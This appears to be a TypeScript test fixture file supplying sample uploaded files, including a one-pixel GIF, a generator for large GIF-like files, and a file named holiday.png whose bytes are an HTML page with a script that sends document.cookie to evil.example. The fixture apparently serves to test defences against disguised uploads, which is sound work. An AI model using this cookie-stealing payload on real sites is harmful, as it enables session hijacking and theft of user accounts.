/** A file to pick. All its bytes are ASCII, so that it can travel as text. */
export interface PickedFile {
  readonly name: string
  readonly mimeType: string
  readonly bytes: string
}

/** A picture of one pixel. */
export const picture = {
  name: 'evidence.gif',
  mimeType: 'image/gif',
  bytes: 'GIF89a\u0001\0\u0001\0\0\0\0,\0\0\0\0\u0001\0\u0001\0\0\u0002\u0002L\u0001\0;',
} as const

/** A picture of about this many bytes: blocks of its image, which differ from part to part. What lies behind its end is not sent. */
export function largePicture(name: string, bytes: number): PickedFile {
  const line = (at: number) => `@${`${name} ${at} `.padEnd(64, '.')}`
  const rest = Array.from({ length: Math.floor(bytes / 65) }, (_, at) => line(at)).join('')
  return { name, mimeType: 'image/gif', bytes: `${picture.bytes.slice(0, -2)}${rest}\0;` }
}

/** A page with a script under the name of a picture. */
export const disguisedScript: PickedFile = {
  name: 'holiday.png',
  mimeType: 'image/png',
  bytes: '<!doctype html><script>fetch("https://evil.example/?" + document.cookie)</script>',
}
